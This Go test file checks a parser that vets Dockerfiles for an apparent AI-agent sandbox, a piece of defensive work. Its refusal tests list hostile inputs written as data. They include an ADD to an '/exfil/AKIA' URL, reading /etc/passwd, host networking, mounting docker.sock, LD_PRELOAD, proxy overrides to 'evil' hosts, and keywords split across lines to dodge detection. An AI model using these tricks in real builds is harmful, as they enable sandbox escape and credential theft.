package capfile

import (
	"errors"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
)

func TestParseAdmits(t *testing.T) {
	f, err := Parse("# escape=`\n# tools\nARG BASE=x\nFROM ${BASE}\n" +
		"ARG DEBIAN_FRONTEND=noninteractive\n" +
		"RUN apt-get update && `\n  # a comment inside the continuation\n\n  apt-get install -y jq\n" +
		"env PATH=/opt/t/bin:$PATH A=\"two words\"\n" +
		"ENV LEGACY some value\n" +
		"WORKDIR /opt/t\nUSER 0:0\nLABEL org.example.tool=jq \"b\"=c\n" +
		"RUN [\"/bin/echo\", \"exec form\"]\n" +
		"RUN [not json\n")
	assert.NilError(t, err)
	assert.Equal(t, f.FromLine, 3)
	var kws []string
	for _, s := range f.Steps {
		kws = append(kws, s.Keyword)
	}
	assert.DeepEqual(t, kws, []string{"ARG", "RUN", "ENV", "ENV", "WORKDIR", "USER", "LABEL", "RUN", "RUN"})
	assert.Equal(t, f.Steps[1].Shell, "apt-get update &&   apt-get install -y jq")
	assert.Equal(t, f.Steps[1].Line, 6)
	assert.DeepEqual(t, f.Steps[2].Pairs, []Pair{{"PATH", "/opt/t/bin:$PATH", true}, {"A", "\"two words\"", true}})
	assert.DeepEqual(t, f.Steps[3].Pairs, []Pair{{"LEGACY", "some value", true}})
	assert.DeepEqual(t, f.Steps[7].Exec, []string{"/bin/echo", "exec form"})
	assert.Equal(t, f.Steps[8].Shell, "[not json")
}

// TestParseRefuses: everything the engine would run or fetch outside the
// bottle, and everything the bottle does not know, is refused, in every
// spelling the builder accepts.
func TestParseRefuses(t *testing.T) {
	for name, tc := range map[string]struct{ df, want string }{
		"ADD url":                     {"FROM a\nADD http://127.0.0.1:9/exfil/AKIA /x", "line 2: ADD: the engine itself fetches"},
		"add lower case":              {"FROM a\nadd http://h/ /x", "ADD: the engine"},
		"ADD split by continuation":   {"FROM a\nA\\\nDD http://h/ /x", "line 2: ADD"},
		"ADD split, comment inside":   {"FROM a\nAD\\\n# c\n\nD http://h/ /x", "ADD"},
		"ADD with backtick escape":    {"# escape=`\nFROM a\nAD`\nD http://h/ /x", "ADD"},
		"ADD git":                     {"FROM a\nADD git@github.com:x/y.git /y", "ADD"},
		"ADD JSON form":               {"FROM a\nADD [\"http://h/\", \"/x\"]", "ADD"},
		"ADD with tab":                {"FROM a\n\tADD\thttp://h/ /x", "ADD"},
		"COPY --from image":           {"FROM a\nCOPY --from=alpine /etc/passwd /p", "COPY"},
		"COPY context":                {"FROM a\nCOPY . /x", "COPY: the engine"},
		"ONBUILD":                     {"FROM a\nONBUILD ADD http://h/ /", "ONBUILD queues"},
		"RUN --network=host":          {"FROM a\nRUN --network=host curl http://127.0.0.1/", `RUN with a flag ("--network=host")`},
		"RUN --security=insecure":     {"FROM a\nRUN --security=insecure id", "RUN with a flag"},
		"RUN --mount":                 {"FROM a\nRUN --mount=type=bind,from=alpine,target=/m ls", "RUN with a flag"},
		"RUN flag after continuation": {"FROM a\nRUN \\\n  --network=host curl x", "RUN with a flag"},
		"RUN heredoc":                 {"FROM a\nRUN <<EOF\ncurl x\nEOF", "heredoc"},
		"RUN heredoc quoted":          {"FROM a\nRUN cat > /x <<-'EOT'\nADD y\nEOT", "heredoc"},
		"COPY heredoc":                {"FROM a\nCOPY <<EOF /x\nhi\nEOF", "heredoc"},
		"FROM flag":                   {"FROM --platform=linux/arm64 a\nRUN x", "FROM with a flag"},
		"second FROM":                 {"FROM a\nFROM b AS c", "a second FROM"},
		"instruction before FROM":     {"RUN true\nFROM a", "line 1: the first instruction must be FROM"},
		"no FROM":                     {"# nothing\n", "no FROM line"},
		"empty":                       {"", "no FROM line"},
		"CMD":                         {"FROM a\nCMD sh", "CMD changes how the agent runs"},
		"ENTRYPOINT":                  {"FROM a\nENTRYPOINT [\"sh\"]", "ENTRYPOINT changes"},
		"SHELL":                       {"FROM a\nSHELL [\"/bin/bash\", \"-c\"]", "SHELL changes"},
		"HEALTHCHECK":                 {"FROM a\nHEALTHCHECK CMD curl x", "HEALTHCHECK"},
		"VOLUME":                      {"FROM a\nVOLUME /var/run/docker.sock", "VOLUME"},
		"unknown":                     {"FROM a\nFETCH http://h/", `"FETCH" is not an instruction`},
		"keyword with form feed":      {"FROM a\nADD\fhttp://h/ /x", "not an instruction"},
		"syntax directive":            {"# syntax=docker/dockerfile:1\nFROM a", "parser directive \"syntax\""},
		"escape twice":                {"# escape=`\n# escape=\\\nFROM a", "given twice"},
		"bad escape":                  {"# escape=x\nFROM a", "escape must be"},
		"ENV proxy":                   {"FROM a\nENV HTTPS_PROXY=http://evil:1", "ENV HTTPS_PROXY: the bottle sets it"},
		"ENV legacy proxy":            {"FROM a\nENV https_proxy http://evil:1", "ENV https_proxy"},
		"ARG proxy":                   {"FROM a\nARG https_proxy=http://evil:1", "ARG https_proxy: the bottle sets it"},
		"ENV CA":                      {"FROM a\nENV SSL_CERT_FILE=/tmp/x", "SSL_CERT_FILE"},
		"ENV LD_PRELOAD":              {"FROM a\nENV LD_PRELOAD=/tmp/x.so", "LD_PRELOAD"},
		"ENV quoted proxy key":        {"FROM a\nENV \"HTTP_PROXY\"=x", "HTTP_PROXY"},
		"LABEL bottle's":              {"FROM a\nLABEL dev.claude-bottle.slug=other", "the dev.claude-bottle labels"},
		"ENV bad key":                 {"FROM a\nENV a-b=1", "letters, digits"},
		"ENV unterminated":            {"FROM a\nENV A=\"x", "unterminated quote"},
		"RUN empty":                   {"FROM a\nRUN", "RUN without a command"},
		"RUN empty exec":              {"FROM a\nRUN []", "empty exec form"},
		"NUL":                         {"FROM a\nRUN x\x00", "NUL"},
		"huge":                        {"FROM a\nRUN " + strings.Repeat("x", MaxSize), "at most"},
	} {
		_, err := Parse(tc.df)
		assert.Assert(t, errors.Is(err, ErrRefused), "%s: %q: %v", name, tc.df, err)
		assert.Assert(t, is.Contains(err.Error(), tc.want), name)
	}
}

// TestParseListsEveryRefusal: the operator sees all refused lines at once.
func TestParseListsEveryRefusal(t *testing.T) {
	_, err := Parse("FROM a\nADD http://h/ /x\nRUN ok\nONBUILD RUN x\nCOPY . /\n")
	var re *RefusedError
	assert.Assert(t, errors.As(err, &re))
	var lines []int
	for _, r := range re.Refusals {
		lines = append(lines, r.Line)
	}
	assert.DeepEqual(t, lines, []int{2, 4, 5})
}

func TestExpand(t *testing.T) {
	env := map[string]string{"PATH": "/usr/bin", "E": ""}
	look := func(k string) (string, bool) { v, ok := env[k]; return v, ok }
	for in, want := range map[string]string{
		"/opt/bin:$PATH":    "/opt/bin:/usr/bin",
		"${PATH}x":          "/usr/bin" + "x",
		"'$PATH'":           "$PATH",
		`"$PATH two"`:       "/usr/bin two",
		`\$PATH`:            "$PATH",
		"${E:-def}":         "def",
		"${NONE:-a${PATH}}": "a/usr/bin",
		"${PATH:+set}":      "set",
		"${E:+set}":         "",
		"$":                 "$",
		"a$1":               "a$1",
		`"a\"b"`:            `a"b`,
	} {
		got, err := Expand(in, look)
		assert.NilError(t, err, in)
		assert.Equal(t, got, want, in)
	}
	for _, bad := range []string{"${PATH", "${PATH/a/b}", "${#PATH}", "'x", "${P:=x}"} {
		_, err := Expand(bad, look)
		assert.Assert(t, err != nil, bad)
	}
}

// FuzzParse: an admitted Dockerfile has one FROM, then only the admitted
// instructions as Split reads them, none with a flag, and no ADD, COPY or
// ONBUILD anywhere in any spelling; Parse never panics.
func FuzzParse(f *testing.F) {
	for _, s := range []string{"FROM a\nRUN x\n", "ARG X\nFROM a\nENV A=1 B=\"2 3\"\n", "FROM a\nAD\\\nD x y", "# escape=`\nFROM a\nR`\nUN x",
		"from\ta\nrun\tb", "FROM a\nRUN <<EOF\nx\nEOF", "FROM a\nLABEL a.b=c\nWORKDIR /x\nUSER 1", "FROM a\nRUN [\"a\"]"} {
		f.Add(s)
	}
	ok := map[string]bool{"RUN": true, "ENV": true, "ARG": true, "WORKDIR": true, "USER": true, "LABEL": true}
	f.Fuzz(func(t *testing.T, df string) {
		file, err := Parse(df)
		if err != nil {
			if !errors.Is(err, ErrRefused) {
				t.Fatalf("error not ErrRefused: %v", err)
			}
			return
		}
		ins, problems := Split(Lines(df))
		if len(problems) > 0 {
			t.Fatalf("admitted with directive problems %v: %q", problems, df)
		}
		froms := 0
		for _, in := range ins {
			switch {
			case in.Keyword == "FROM":
				froms++
			case froms == 0 && in.Keyword != "ARG":
				t.Fatalf("%s before FROM: %q", in.Keyword, df)
			case froms > 0 && !ok[in.Keyword]:
				t.Fatalf("%s admitted: %q", in.Keyword, df)
			}
			if strings.HasPrefix(in.Args, "--") {
				t.Fatalf("flag admitted: %q", df)
			}
		}
		if froms != 1 || file.FromLine < 0 {
			t.Fatalf("%d FROMs: %q", froms, df)
		}
		for _, s := range file.Steps {
			if s.Keyword == "RUN" && heredocRE.MatchString(s.Shell) {
				t.Fatalf("heredoc admitted: %q", df)
			}
		}
	})
}
